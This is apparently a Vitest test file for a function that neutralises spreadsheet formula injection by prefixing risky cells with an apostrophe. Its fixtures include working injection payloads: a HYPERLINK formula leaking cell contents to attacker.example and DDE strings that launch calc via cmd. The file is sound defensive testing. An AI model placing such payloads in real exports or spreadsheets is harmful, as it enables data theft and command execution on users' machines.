import { expect, test } from 'vitest'
import { plainCell, typedCell } from './plain-cell.ts'

test.each([
  '=1+1',
  '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
  '+A1',
  '+cmd|calc',
  '+44-7700-900123',
  '-2+3',
  '--1',
  "-cmd|' /C calc'!A0",
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋A1',
  '－A1',
  '＠SUM(A1)',
])('%j would be reckoned out and gets an apostrophe, and loses it when it is read', (text) => {
  expect(plainCell(text)).toBe(`'${text}`)
  expect(typedCell(`'${text}`)).toBe(text)
})

test.each([
  '',
  'Hill Haulage',
  '-5.00',
  '+5',
  '-1,234.50',
  '+44 7700 900123',
  '+44 (0)7700 900123',
  '(01327) 555014',
  'a=1',
  "'=1+1",
  ' =1',
  '–',
])('%j stays as it is', (text) => expect(plainCell(text)).toBe(text))

test.each(["'quoted'", "'", "'-5", "''=1", '-5.00'])('%j is read as it is', (text) => {
  expect(typedCell(text)).toBe(text)
})
